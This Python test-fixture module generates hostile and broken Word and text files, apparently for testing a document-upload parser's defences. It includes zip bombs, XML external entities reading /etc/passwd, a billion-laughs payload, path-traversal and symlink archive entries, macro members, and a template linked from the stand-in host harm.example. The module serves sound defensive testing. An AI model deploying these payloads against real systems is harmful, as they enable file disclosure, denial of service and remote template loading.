"""Files that somebody might send to harm us, and files that merely broke on the way: made when asked for."""

import functools
import io
import stat
import struct
import zipfile
import zlib

from tests import samples
from tests.samples import protocol_text

protocol_docx = functools.cache(samples.protocol_docx)
RELS = "word/_rels/document.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def repacked(changes: dict[str, bytes | None] | None = None, extra=(), method=zipfile.ZIP_DEFLATED) -> bytes:
    """The sample Word file with members changed, taken out (None) or added."""
    changes = changes or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(protocol_docx())) as old, zipfile.ZipFile(out, "w", method) as new:
        for name in old.namelist():
            content = changes.get(name, old.read(name))
            if content is not None:
                new.writestr(name, content)
        for name, content in extra:
            new.writestr(name, content)
    return out.getvalue()


def member(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(protocol_docx())) as archive:
        return archive.read(name)


def _document(before_root: str = "", encoding: str = "utf-8") -> bytes:
    text = member("word/document.xml").decode()
    start = text.index("<w:document")
    return (f'<?xml version="1.0" encoding="{encoding}"?>' + before_root + text[start:]).encode(encoding)


def _linked(kind: str, target: str) -> bytes:
    link = (
        f'<Relationship Id="rId999" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return repacked({RELS: member(RELS).replace(b"</Relationships>", link.encode())})


def _symlink() -> bytes:
    entry = zipfile.ZipInfo("word/media/picture.png")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return repacked(extra=[(entry, b"/etc/passwd")])


def _encrypted() -> bytes:
    """Every member flagged as encrypted, in both headers."""
    data = bytearray(protocol_docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def _lying_bomb() -> bytes:
    """Declares a size of 100 bytes and unpacks to 300 MB."""
    data = bytearray(repacked(extra=[("word/media/big.dat", b"")]))
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(squeezer.compress(b"\0" * 10_000_000) for _ in range(30)) + squeezer.flush()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bytes(data))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if not name.endswith("big.dat"):
                new.writestr(name, old.read(name))
        new.writestr(zipfile.ZipInfo("word/media/big.dat"), packed)  # stored: its own bytes are the packed stream
    data = bytearray(out.getvalue())
    for signature, method, sizes in ((b"PK\x03\x04", 8, 18), (b"PK\x01\x02", 10, 20)):
        at = data.rfind(signature)
        data[at + method : at + method + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
        data[at + sizes : at + sizes + 8] = struct.pack("<II", len(packed), 100)
    return bytes(data)


def _nested_tables(depth: int) -> bytes:
    inner = "<w:p/>"
    for _ in range(depth):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    document = member("word/document.xml").decode()
    return repacked({"word/document.xml": document.replace("<w:body>", f"<w:body>{inner}").encode()})


_DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_MANY = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'

WORD = {
    "bomb": lambda: repacked({"word/document.xml": _MANY % (b"<w:p/>" * 4_000_000)}),
    "bomb of many members": lambda: repacked(extra=[(f"word/media/{n}.dat", b"\0" * 400_000) for n in range(100)]),
    "bomb that lies about its size": _lying_bomb,
    "endless paragraphs": lambda: repacked(
        {"word/document.xml": _MANY % b"".join(b"<w:p w:n='%d'/>" % n for n in range(200_000))}
    ),
    "nested archive": lambda: repacked(extra=[("word/embeddings/inner.dat", protocol_docx())]),
    "nested archive by name": lambda: repacked(extra=[("word/embeddings/inner.xlsx", b"x")]),
    "macro": lambda: repacked(extra=[("word/vbaProject.bin", b"x")]),
    "script": lambda: repacked(extra=[("word/run.js", b"x")]),
    "macro content type": lambda: repacked(
        {"[Content_Types].xml": member("[Content_Types].xml").replace(b"document.main", b"document.macroEnabled.main")}
    ),
    "outside entity": lambda: repacked({"word/document.xml": _document(_DTD)}),
    "outside entity in UTF-16": lambda: repacked({"word/document.xml": _document(_DTD, "utf-16")}),
    "outside entity in bare UTF-16": lambda: repacked({"word/document.xml": _document(_DTD, "utf-16")[2:]}),
    "billion laughs in the styles": lambda: repacked({"word/styles.xml": (_BILLION + "<w/>").encode()}),
    "another encoding": lambda: repacked({"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?><x/>'}),
    "template elsewhere": lambda: _linked("attachedTemplate", "http://harm.example/t.dotm"),
    "content elsewhere": lambda: _linked("subDocument", "file:///etc/passwd"),
    "wandering name": lambda: repacked(extra=[("../../etc/cron.d/x", b"x")]),
    "absolute name": lambda: repacked(extra=[("/etc/x", b"x")]),
    "backslash name": lambda: repacked(extra=[("..\\x", b"x")]),
    "symbolic link": _symlink,
    "locked": _encrypted,
    "too many members": lambda: repacked(extra=[(f"word/media/{number}.png", b"") for number in range(600)]),
    "odd packing": lambda: repacked(method=zipfile.ZIP_LZMA),
    "no document": lambda: repacked({"word/document.xml": None}),
    "no content types": lambda: repacked({"[Content_Types].xml": None}),
    "empty document": lambda: repacked({"word/document.xml": _MANY % b""}),
    "document that is not XML": lambda: repacked({"word/document.xml": b"<w:document"}),
    "deeply nested": lambda: _nested_tables(2_000),
    "nested as deep as the parser allows": lambda: _nested_tables(80),
    "cut short": lambda: protocol_docx()[:-2_000],
    "cut to its start": lambda: protocol_docx()[:40],
    "PDF": lambda: b"%PDF-1.7\n" + b"x" * 5_000,
    "old Word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000,
    "text": protocol_text,
    "nothing": lambda: b"",
    "too large": lambda: b"PK\x03\x04" + bytes(20_000_001),
}
TEXT = {
    "nothing": lambda: b"",
    "spaces": lambda: b" \n\t\n",
    "NUL bytes": lambda: b"1 Introduction\n\n\0\n",
    "another encoding": lambda: "1 Introduction\n\nCaf\u00e9".encode("latin-1"),
    "UTF-16": lambda: protocol_text().decode().encode("utf-16"),
    "a Word file": protocol_docx,
    "a PDF": lambda: b"%PDF-1.7\nhello",
    "too large": lambda: b"words and words " * 1_300_000,
    "longer than a protocol": lambda: b"words and words " * 300_000,
    "endless lines": lambda: b"- x\n" * 2_000_000,
}
